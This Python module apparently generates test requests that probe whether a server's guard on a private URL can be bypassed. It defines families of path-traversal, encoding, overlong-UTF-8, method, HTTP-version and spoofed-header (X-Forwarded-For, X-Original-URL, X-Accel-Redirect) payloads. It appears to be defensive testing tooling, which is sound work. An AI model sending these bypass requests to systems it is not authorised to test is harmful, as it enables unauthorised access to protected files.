"""Direct requests for an internal URL, in families, spelled as might slip past a guard.

The targets are templates with blanks between them, in Latin-1 so that each character is a byte.
:func:`spell` fills in their fields.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from itertools import product
from types import MappingProxyType

from . import http2


@dataclass(frozen=True, slots=True)
class Family:
    """Attacks with one idea behind them.

    :param name: part of the check's name.
    :param why: how such a request gets past a guard.
    :param templates: for the request's target.
    :param methods: how to ask for each target.
    :param versions: of HTTP.
    :param headers: sets of headers to send with each.
    """

    name: str
    why: str
    templates: str
    methods: tuple[str, ...] = ("GET",)
    versions: tuple[str, ...] = ("HTTP/1.1",)
    headers: tuple[Mapping[str, str], ...] = ({},)


SPELLINGS: tuple[Family, ...] = (
    Family(
        "plain",
        "Without a guard, or with one that the server does not apply where the application runs,"
        " everybody who guesses a name gets the file.",
        "/{file}",
    ),
    Family(
        "encoding",
        "A guard that looks at the request line sees other characters than the server, which"
        " decodes them before it looks for the file.",
        "/{first}/{name} /{last}/{name} /{every}/{name} /{dir}%2f{name} /{dir}%2F{name} "
        "%2f{file} /{twice}/{name} /{dir}/{coded} /{first}/{coded} /{dir}%252f{name}",
    ),
    Family(
        "slashes",
        "The server merges slashes; a guard that compares the beginning of the request's path"
        " does not.",
        "//{file} ///{dir}///{name} /{dir}//{name} /%2f{file}",
    ),
    Family(
        "dots",
        "The server removes '.' and 'x/..' before it looks for the file; a guard that compares"
        " text does not.",
        "/./{file} /{dir}/./{name} /%2e/{file} /{dir}/%2e/{name} /x/../{file} "
        "/x/%2e%2e/{file} /x/%2e./{file} /x/..%2f{file} /{dir}/x/../{name} /{dir}/../{file} "
        "/../{file} /..//{file} /file/../{file} /.%2e/.%2e/{file} /static/..;/{file}",
    ),
    Family(
        "absolute",
        "HTTP allows a whole URL in the request line. A guard that expects a path there does not"
        " see the path in it, and the host in it may select another virtual host.",
        "http://127.0.0.1/{file} http://other.example/{file} https://127.0.0.1/{file} "
        "HTTP://127.0.0.1/{first}/{name} http://user@127.0.0.1/{file}",
    ),
    Family(
        "case",
        "A file system, or a module that corrects spellings, may not tell upper from lower case"
        " where the guard does.",
        "/{upper}/{name} /{title}/{name}",
    ),
    Family(
        "parameters",
        "What follows ';', '?' or '#' may be left out by the server and compared by the guard; and"
        " a query in the form of a hand-off's must not open anything without the token.",
        "/{file};x=1 /{dir};x=1/{name} /{file}#x /{file}? /{file}?x=1 "
        "/{file}?k=00000000000000000000000000000000&ct=text/plain&cd=inline "
        "/{file}?k=&ct=text/plain&cd=inline",
    ),
    Family(
        "endings",
        "A blank, a dot, a NUL or path information behind the name may be ignored when the file"
        " is opened, but not when the guard compares.",
        "/{file}/ /{file}/x /{file}. /{file}%20 /{file}%00 /{dir}%00/{name} /{file}%0a",
    ),
    Family(
        "separators",
        "Backslashes and blanks are separators to some programs, and part of the name to others.",
        "/{dir}\\{name} \\{dir}\\{name} /{dir}%5c{name} /{blank}{file} /{dir}/{tab}{name} "
        "{file} */{file}",
    ),
    Family(
        "overlong",
        "Overlong UTF-8, %u escapes and full-width letters become ASCII in a decoder that is too"
        " kind, behind a guard that did not decode them.",
        "/{dir}%c0%af{name} /\xc0\xaf{file} /%c0%ae{file} /%c1%b0{rest}/{name} "
        "/%u0070{rest}/{name} /\xef\xbd\x90{rest}/{name}",
    ),
)
SPOOFED: tuple[Mapping[str, str], ...] = (
    {"REDIRECT_mod_wsgi.process_group": "localhost:8000"},
    {"mod_wsgi.process_group": "localhost:8000"},
    {"REDIRECT_SCRIPT_FILENAME": "proxy:scgi://localhost/", "REDIRECT_STATUS": "200"},
    {"Mod-Wsgi.Process-Group": "x"},
    {"REDIRECT_STATUS": "200", "Redirect-Status": "200"},
    {"X-Accel-Redirect": "/private/x", "X-Sendfile": "/private/x"},
    {"X-Original-URL": "/", "X-Rewrite-URL": "/"},
    {"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1"},
    {"Location": "/private/x", "Status": "200"},
    {"X-HTTP-Method-Override": "GET"},
    {"Range": "bytes=0-"},
    {"If-None-Match": "*", "If-Modified-Since": "Thu, 01 Jan 1970 00:00:00 GMT"},
    {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA"},
)
EVERY_TEMPLATE = " ".join(family.templates for family in SPELLINGS)
FAMILIES: tuple[Family, ...] = (
    *SPELLINGS,
    Family(
        "versions",
        "Old requests have another form, or no header at all: a guard that looks for 'HTTP/1.1',"
        " or for a host, does not see them.",
        EVERY_TEMPLATE,
        versions=("HTTP/1.0", "HTTP/0.9"),
    ),
    Family(
        "http2",
        "There is no request line in HTTP/2; what a server makes of one for its rules, and what it"
        " normalises before, may differ from HTTP/1.",
        EVERY_TEMPLATE,
        versions=("HTTP/2",),
    ),
    Family(
        "methods",
        "A guard inside <Limit GET> does not see other methods, which a server may answer with the"
        " file.",
        "/{file}",
        methods=("HEAD", "POST", "PUT", "OPTIONS", "PROPFIND", "TRACE", "DELETE", "get", "FOO"),
    ),
    Family(
        "headers",
        "A guard that trusts what a request says of itself can be told whatever opens it.",
        "/{file}",
        headers=SPOOFED,
    ),
    Family(
        "hosts",
        "A host name selects the virtual host. A guard inside one does not cover the others.",
        "/{file} /{first}/{name}",
        headers=tuple(
            {"Host": name} for name in ("localhost", "other.example", "[::1]", "x:1", "")
        ),
    ),
)
LISTINGS = (
    "/{dir}/ /{dir} /{first}/ //{dir}/ /./{dir}/ /x/../{dir}/ /{dir}/?C=M;O=D /{dir}/. /{dir}/x/.."
)
"""Templates that would show a folder's content if listings were on."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One direct request."""

    target: bytes
    method: str = "GET"
    version: str = "HTTP/1.1"
    headers: dict[str, str] = field(default_factory=dict)

    def below(self, root: str) -> Attack:
        """Return the same request to a server whose root a proxy shows at a path."""
        return replace(self, target=root.encode() + self.target)

    def to(
        self,
        host: str = "127.0.0.1",
        scheme: str = "http",
        headers: Mapping[str, str] = MappingProxyType({}),
    ) -> bytes:
        """Return the request.

        :param host: the ``Host`` header, unless the attack has one.
        :param scheme: of the URL; only HTTP/2 says it.
        :param headers: what else each request needs; HTTP/0.9 cannot say it.
        """
        if self.version == http2.VERSION:
            return http2.request(self.target, host, scheme, headers)
        head = f"{self.method} ".encode() + self.target
        if self.version == "HTTP/0.9":
            # Who does not know it waits for the end of a head, and then refuses.
            return head + b"\r\n\r\n"
        lines = {"Host": host, "Connection": "close", **headers, **self.headers}
        fields = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
        return head + f" {self.version}\r\n{fields}\r\n".encode("latin-1")


def targets(url: str, name: str) -> list[bytes]:
    """Return every spelling of an area's URL and a file's name.

    :param url: with a slash at both ends.
    """
    return [spell(target, url, name) for target in EVERY_TEMPLATE.split()]


def requests(family: Family, url: str, name: str) -> Iterator[Attack]:
    """Yield a family's requests for one file."""
    ways = (family.templates.split(), family.methods, family.versions, family.headers)
    for target, method, version, headers in product(*ways):
        yield Attack(spell(target, url, name), method, version, dict(headers))


def spell(template: str, url: str, name: str) -> bytes:
    """Fill in a template."""
    folder = url.strip("/")
    filled = template.format(
        dir=folder,
        name=name,
        file=f"{folder}/{name}",
        blank=" ",
        tab="\t",
        first=_coded(folder[:1]) + folder[1:],
        last=folder[:-1] + _coded(folder[-1:]),
        every="/".join(_coded(part) for part in folder.split("/")),
        twice=_coded(folder[:1]).replace("%", "%25") + folder[1:],
        rest=folder[1:],
        upper=folder.upper(),
        title=folder.title(),
        coded=_coded(name[:1]) + name[1:],
    )
    return filled.encode("latin-1")


def _coded(text: Iterable[str]) -> str:
    return "".join(f"%{ord(character):02x}" for character in text)
